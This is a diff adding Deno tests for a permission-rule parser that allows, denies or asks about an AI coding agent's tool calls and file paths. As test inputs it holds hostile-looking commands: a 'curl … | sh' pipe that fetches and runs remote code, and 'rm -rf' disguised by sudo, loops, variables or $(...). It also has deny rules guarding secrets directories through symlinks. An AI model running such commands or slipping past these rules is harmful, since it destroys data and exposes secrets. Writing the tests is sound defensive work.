@@ -5,7 +5,7 @@
 
 import assert from "node:assert/strict";
 import { toToolCall } from "../../lib/permissions/call.ts";
-import { pathContext } from "../../lib/permissions/paths.ts";
+import { callPaths, pathContext } from "../../lib/permissions/paths.ts";
 import {
   asHash,
   coversCommandPart,
@@ -189,7 +189,13 @@ for (const c of PARSE) {
     const r = parseRule(c.text, "test", "deny");
     assert.equal(r.isValid, c.expected.isValid);
     if (c.expected.family !== undefined) assert.equal(r.family, c.expected.family);
-    if (!c.expected.isValid) assert.equal(r.family, undefined);
+    if (!c.expected.isValid) {
+      assert.equal(r.family, undefined);
+      assert.deepEqual([...r.tools], []);
+    }
+    if (c.expected.family === "tool" || c.expected.family === "mcp") {
+      assert.equal(r.specifier, undefined);
+    }
     if (c.expected.tools !== undefined) assert.deepEqual([...r.tools], c.expected.tools);
     if (c.expected.specifier !== undefined) assert.equal(r.specifier, c.expected.specifier);
     if (c.expected.mcpServer !== undefined) assert.equal(r.mcpServer, c.expected.mcpServer);
@@ -212,6 +218,47 @@ Deno.test("as_hash: { rule, source, kind, error? } for reports", () => {
   const bad = asHash(parseRule("Nope", "s", "deny"));
   assert.equal(bad.rule, "Nope");
   assert.match(bad.error ?? "", /unknown tool/);
+  assert.deepEqual(bad, {
+    rule: "Nope",
+    source: "s",
+    kind: "deny",
+    error: 'Cannot parse rule "Nope": unknown tool "Nope"',
+  });
+});
+
+Deno.test("tools: empty for an MCP rule or an invalid one", () => {
+  assert.deepEqual([...parseRule("mcp__github__create_issue", "s", "deny").tools], []);
+  assert.deepEqual([...parseRule("Bash(npm run", "s", "deny").tools], []);
+  assert.deepEqual([...parseRule("Frobnicate", "s", "deny").tools], []);
+});
+
+Deno.test("specifier: the text inside the parentheses, or undefined for a bare tool rule", () => {
+  assert.equal(parseRule("Bash", "s", "deny").specifier, undefined);
+  assert.equal(parseRule("Read", "s", "deny").specifier, undefined);
+  assert.equal(parseRule("Bash(npm run test:*)", "s", "deny").specifier, "npm run test:*");
+});
+
+Deno.test("error: why the rule is invalid, or undefined", () => {
+  assert.equal(parseRule("Bash(ls)", "s", "allow").error, undefined);
+  assert.equal(
+    parseRule("Bash(ls", "s", "allow").error,
+    'Cannot parse rule "Bash(ls": missing ")"',
+  );
+});
+
+Deno.test("call_paths: resolved against the root with . and .. taken out", () => {
+  assert.deepEqual(callPaths("lib/./../secrets/key", ctx), ["/proj/secrets/key"]);
+  assert.deepEqual(callPaths("/proj/src/../README.md", ctx), ["/proj/README.md"]);
+  assert.deepEqual(callPaths("~/notes.md", ctx), ["/home/u/notes.md"]);
+});
+
+Deno.test("call_paths: and its real path when that differs", () => {
+  // The tests' project links /proj/link-secrets to /proj/secrets.
+  assert.deepEqual(callPaths("link-secrets/key.txt", ctx), [
+    "/proj/link-secrets/key.txt",
+    "/proj/secrets/key.txt",
+  ]);
+  assert.deepEqual(callPaths("key-link.txt", ctx), ["/proj/key-link.txt", "/proj/secrets/key.txt"]);
 });
 
 Deno.test("tools: a new array each time is not shared with the rule", () => {
@@ -285,6 +332,34 @@ const MATCH: MatchCase[] = [
     rule: "Monitor",
     tool: "Bash",
     input: { command: "ls" },
+    expected: false,
+  },
+  {
+    name: "Monitor(command) names the monitor alone: not a Bash call",
+    rule: "Monitor(tail:*)",
+    tool: "Bash",
+    input: { command: "tail -f log" },
+    expected: false,
+  },
+  {
+    name: "Monitor(command) names the monitor alone: a Monitor call",
+    rule: "Monitor(tail:*)",
+    tool: "Monitor",
+    input: { command: "tail -f log" },
+    expected: true,
+  },
+  {
+    name: "raider names are accepted as well: write_file matches a Write call",
+    rule: "write_file",
+    tool: "Write",
+    input: { file_path: "a" },
+    expected: true,
+  },
+  {
+    name: "raider names are accepted as well: read_file names read_file alone, not grep",
+    rule: "read_file",
+    tool: "Grep",
+    input: { pattern: "x" },
     expected: false,
   },
   // Bash exact / prefix / glob, allow as written
@@ -560,6 +635,46 @@ const MATCH: MatchCase[] = [
     expected: true,
   },
   {
+    name: "ask matches when any part matches",
+    rule: "Bash(rm:*)",
+    kind: "ask",
+    tool: "Bash",
+    input: { command: "echo a && rm -rf x" },
+    expected: true,
+  },
+  {
+    name: "ask: with a leading keyword taken off",
+    rule: "Bash(rm:*)",
+    kind: "ask",
+    tool: "Bash",
+    input: { command: "while rm -rf x; do :; done" },
+    expected: true,
+  },
+  {
+    name: "ask: with a wrapper (sudo) taken off",
+    rule: "Bash(rm:*)",
+    kind: "ask",
+    tool: "Bash",
+    input: { command: "sudo -u root rm -rf x" },
+    expected: true,
+  },
+  {
+    name: "ask: with VAR=value taken off",
+    rule: "Bash(rm:*)",
+    kind: "ask",
+    tool: "Bash",
+    input: { command: "A=1 B=2 rm -rf x" },
+    expected: true,
+  },
+  {
+    name: "ask: inside $(...)",
+    rule: "Bash(rm:*)",
+    kind: "ask",
+    tool: "Bash",
+    input: { command: "echo $(rm -rf x)" },
+    expected: true,
+  },
+  {
     name: "ask rule matches the exact command",
     rule: "Bash(othertool --careful)",
     kind: "ask",
@@ -580,6 +695,20 @@ const MATCH: MatchCase[] = [
     rule: "Bash(curl * | sh)",
     tool: "Bash",
     input: { command: "curl https://x.test/i.sh | sh" },
+    expected: true,
+  },
+  {
+    name: "deny matches when any part matches: a glob without operators spans no parts",
+    rule: "Bash(git * x)",
+    tool: "Bash",
+    input: { command: "git a; rm x" },
+    expected: false,
+  },
+  {
+    name: "deny: a glob without operators still matches its part",
+    rule: "Bash(git * x)",
+    tool: "Bash",
+    input: { command: "echo a; git a x" },
     expected: true,
   },
   // Paths
@@ -776,6 +905,22 @@ const MATCH: MatchCase[] = [
     expected: true,
   },
   {
+    name: "ask: either form is enough (the real one)",
+    rule: "Read(//outside/**)",
+    kind: "ask",
+    tool: "Read",
+    input: { file_path: "/proj/src-link-out.txt" },
+    expected: true,
+  },
+  {
+    name: "ask: either form is enough (the written one)",
+    rule: "Read(//outside/**)",
+    kind: "ask",
+    tool: "Read",
+    input: { file_path: "/outside/to-src.txt" },
+    expected: true,
+  },
+  {
     name: "for grep the path is the search root",
     rule: "Read(./secrets/**)",
     tool: "Grep",
@@ -794,6 +939,27 @@ const MATCH: MatchCase[] = [
     rule: "Read(./secrets/**)",
     tool: "Grep",
     input: { pattern: "x" },
+    expected: false,
+  },
+  {
+    name: "for glob the path is the search root",
+    rule: "Read(./secrets/**)",
+    tool: "Glob",
+    input: { pattern: "*.txt", path: "secrets" },
+    expected: true,
+  },
+  {
+    name: "glob: a rule on a directory above the search root matches",
+    rule: "Read(./secrets)",
+    tool: "Glob",
+    input: { pattern: "*", path: "/proj/secrets/deep" },
+    expected: true,
+  },
+  {
+    name: "glob over the root: a rule on files below it does not name it",
+    rule: "Read(./secrets/**)",
+    tool: "Glob",
+    input: { pattern: "**/*.txt" },
     expected: false,
   },
   {
